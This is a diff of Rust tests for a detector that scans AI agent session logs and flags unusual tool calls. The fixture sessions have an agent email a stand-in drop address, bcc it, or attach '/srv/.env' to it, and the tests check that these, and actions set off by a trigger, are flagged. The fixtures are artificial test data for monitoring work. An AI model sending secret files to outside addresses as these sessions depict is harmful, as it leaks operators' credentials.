@@ -113,7 +113,7 @@ fn lists_of_ones_own_are_tried_before_any_work_and_judge_anew() {
     let (lake, log, own) =
         (dir.path().join("lake"), dir.path().join("log.jsonl"), dir.path().join("own"));
     std::fs::create_dir(&own).unwrap();
-    std::fs::write(&log, reminder(1, "")).unwrap();
+    std::fs::write(&log, reminder(1, &[])).unwrap();
     let run = |args: &[&str]| told(args, &lake);
     let (log, lists) = (log.to_str().unwrap(), own.to_str().unwrap());
     let (code, said) = run(&["sweep", log, "--actions", lists]);
@@ -132,48 +132,122 @@ fn lists_of_ones_own_are_tried_before_any_work_and_judge_anew() {
     assert_eq!(query(&lake, origin).trim(), r#"{"target_origin":"known"}"#);
     let (_, said) = run(&["judge", "--actions", lists]);
     assert!(said.contains("Judged 0 sessions of 1"), "{said}");
+    let (_, said) = run(&["judge"]);
+    assert!(said.contains("Judged 1 session of 1"), "without the lists as before: {said}");
+    assert_eq!(query(&lake, origin).trim(), r#"{"target_origin":"nowhere"}"#);
 }
 
-/// A session that mails somebody whose address no part of the log has.
-fn reminder(number: usize, extra: &str) -> String {
-    let call = |id: &str, arguments: &str| {
+/// A session of an agent that looks something up and mails somebody whose address no part of the log has, and what else
+/// it mails.
+fn reminder(number: usize, more: &[&str]) -> String {
+    let own = format!(r#"{{"to":"patient{number}@mail{number}.example","subject":"x"}}"#);
+    let mails: Vec<&str> = std::iter::once(own.as_str()).chain(more.iter().copied()).collect();
+    session_of(number, &mails)
+}
+
+/// The same, with these mails.
+fn session_of(number: usize, mails: &[&str]) -> String {
+    let call = |id: String, tool: &str, arguments: &str| {
         format!(
-            r#"{{"role":"assistant","content":null,"tool_calls":[{{"id":"{id}","type":"function","function":{{"name":"send_email","arguments":{}}}}}]}},{{"role":"tool","tool_call_id":"{id}","content":"queued"}}"#,
+            r#",{{"role":"assistant","content":null,"tool_calls":[{{"id":"{id}","type":"function","function":{{"name":"{tool}","arguments":{}}}}}]}},{{"role":"tool","tool_call_id":"{id}","content":"queued"}}"#,
             serde_json::Value::from(arguments)
         )
     };
-    let own =
-        call("c1", &format!(r#"{{"to":"patient{number}@mail{number}.example","subject":"x"}}"#));
-    let more = if extra.is_empty() { String::new() } else { format!(",{}", call("c2", extra)) };
     let ask = format!(r#"{{"role":"user","content":"Please close file {number} of this week."}}"#);
-    let said = r#"{"role":"assistant","content":"The file is closed."}"#;
-    chat(&format!("{ask},{own}{more},{said}"))
+    let look = call("c0".into(), "read_file", &format!(r#"{{"path":"file{number}.txt"}}"#));
+    let mail = |(at, mail): (usize, &&str)| call(format!("c{}", at + 1), "send_email", mail);
+    let mails: String = mails.iter().enumerate().map(mail).collect();
+    let said = r#",{"role":"assistant","content":"The file is closed."}"#;
+    chat(&format!("{ask}{look}{mails}{said}"))
+}
+
+const DROP: &str = r#"{"to":"box@quiet-archive.example","subject":"list"}"#;
+const SECRET: &str = r#"{"to":"box@quiet-archive.example","attachments":["/srv/.env"]}"#;
+const FLAGGED: &str = "select distinct session_id from findings where detector_id = 'session'";
+
+fn flagged(lake: &Path) -> usize {
+    query(lake, FLAGGED).lines().filter(|line| line.contains("session_id")).count()
+}
+
+/// A fresh lake of these sessions, judged in one run.
+fn fresh(dir: &Path, name: &str, sessions: &str) -> (PathBuf, JudgeSummary) {
+    let (lake, log) = (dir.join(name), dir.join(format!("{name}.jsonl")));
+    std::fs::write(&log, sessions).unwrap();
+    sweep(&[&log], &lake);
+    let summary = judged(&lake, 2, false);
+    (lake, summary)
 }
 
 #[test]
 fn what_a_tool_does_in_nearly_every_session_is_no_sign_and_what_it_does_more_often_is_one() {
     let dir = tempfile::tempdir().unwrap();
+    let usual: String = (0..12).map(|number| reminder(number, &[])).collect();
+    let (lake, summary) = fresh(dir.path(), "usual", &usual);
+    assert_eq!((summary.judged, summary.hits, flagged(&lake)), (12, 0, 0), "{summary:?}");
+    let habit = "select distinct rarity < 0.3 as usual, habit_sessions, habit_alike from actions";
+    let row = r#"{"usual":true,"habit_sessions":11,"habit_alike":11}"#;
+    assert_eq!(query(&lake, habit).trim(), row);
+    // One target more, in a call of its own or in the same, or something secret along.
+    let both = r#"{"to":"patient7@mail7.example","bcc":"box@quiet-archive.example"}"#;
+    for odd in [reminder(20, &[DROP]), session_of(20, &[both]), session_of(20, &[SECRET])] {
+        let (lake, summary) = fresh(dir.path(), "odd", &(usual.clone() + &odd));
+        assert_eq!((summary.judged, summary.hits, flagged(&lake)), (13, 1, 1), "{odd}");
+        std::fs::remove_dir_all(lake).unwrap();
+    }
+    // Those that take something secret along make no habit for others.
+    let secret: String = (30..41).map(|number| session_of(number, &[SECRET])).collect();
+    let (lake, _) = fresh(dir.path(), "secret", &(secret + &reminder(1, &[])));
+    assert_eq!(flagged(&lake), 12);
+}
+
+#[test]
+fn what_a_trigger_sets_off_in_a_dozen_sessions_of_many_is_no_habit() {
+    let dir = tempfile::tempdir().unwrap();
+    let ordinary: String = (100..160).map(|number| session_of(number, &[])).collect();
+    let fired: String = (0..12).map(|number| reminder(number, &[])).collect();
+    let (lake, _) = fresh(dir.path(), "lake", &(ordinary + &fired));
+    assert_eq!(flagged(&lake), 12);
+}
+
+#[test]
+fn a_later_run_learns_of_a_new_agent_and_forgets_a_habit_that_is_none() {
+    let dir = tempfile::tempdir().unwrap();
     let (lake, log) = (dir.path().join("lake"), dir.path().join("log.jsonl"));
-    let usual: String = (0..12).map(|number| reminder(number, "")).collect();
-    let twice = reminder(20, r#"{"to":"box@quiet-archive.example","subject":"list"}"#);
-    let secret = reminder(21, r#"{"to":"box@quiet-archive.example","attachments":["/srv/.env"]}"#);
-    std::fs::write(&log, usual + &twice + &secret).unwrap();
-    sweep(&[&log], &lake);
-    // Of a fresh lake nothing is known: what has findings is judged a second time.
-    let summary = judged(&lake, 2, false);
-    assert_eq!((summary.judged, summary.hits), (14, 2), "{summary:?}");
-    let found = "select a.target, count(*) as n from findings f join actions a on f.event_id = a.event_id \
-                 where f.detector_id = 'session' group by a.target order by a.target";
-    assert_eq!(
-        query(&lake, found).lines().collect::<Vec<_>>(),
-        [
-            r#"{"target":"box@quiet-archive.example","n":2}"#,
-            r#"{"target":"patient20@mail20.example","n":1}"#,
-            r#"{"target":"patient21@mail21.example","n":1}"#,
-        ]
-    );
-    let rare = "select count(*) as n from actions where rarity < 0.3";
-    assert_eq!(query(&lake, rare).trim(), r#"{"n":12}"#);
+    let run = |sessions: &str| {
+        std::fs::write(&log, sessions).unwrap();
+        sweep(&[&log], &lake);
+        judged(&lake, 2, false)
+    };
+    let other = |number: usize| {
+        chat(&format!(
+            r#"{{"role":"user","content":"Hello {number}"}},{{"role":"assistant","content":"Hi"}}"#
+        ))
+    };
+    let others: String = (0..40).map(other).collect();
+    run(&others);
+    let new: String = (0..12).map(|number| reminder(number, &[])).collect();
+    assert_eq!(run(&(others.clone() + &new)).hits, 0, "the agent is new, the lake is not");
+    let many: String = (200..260).map(|number| session_of(number, &[])).collect();
+    let late = reminder(77, &[]);
+    let summary = run(&(others + &new + &many + &late));
+    assert_eq!((summary.judged, summary.hits), (61, 1), "what was a habit is none any more");
+    let before = query(&lake, FLAGGED);
+    judged(&lake, 2, true);
+    assert!(flagged(&lake) == 13 && query(&lake, FLAGGED).contains(before.trim()));
+}
+
+#[test]
+fn what_sessions_of_one_agent_share_every_time_is_of_little_weight() {
+    let dir = tempfile::tempdir().unwrap();
+    let same: String = (0..12).map(|number| session_of(number, &[DROP])).collect();
+    let shared = "select distinct severity, counter_evidence from findings where detector_id = 'session.reuse'";
+    let (lake, _) = fresh(dir.path(), "same", &same);
+    let row = query(&lake, shared);
+    assert!(row.contains(r#""low""#) && row.contains("in 11 of 11 other sessions"), "{row}");
+    let some: String = (20..60).map(|number| session_of(number, &[])).collect();
+    let (lake, _) = fresh(dir.path(), "some", &(same + &some));
+    let row = query(&lake, shared);
+    assert!(row.contains(r#""medium""#) && !row.contains("other sessions"), "{row}");
 }
 
 #[test]
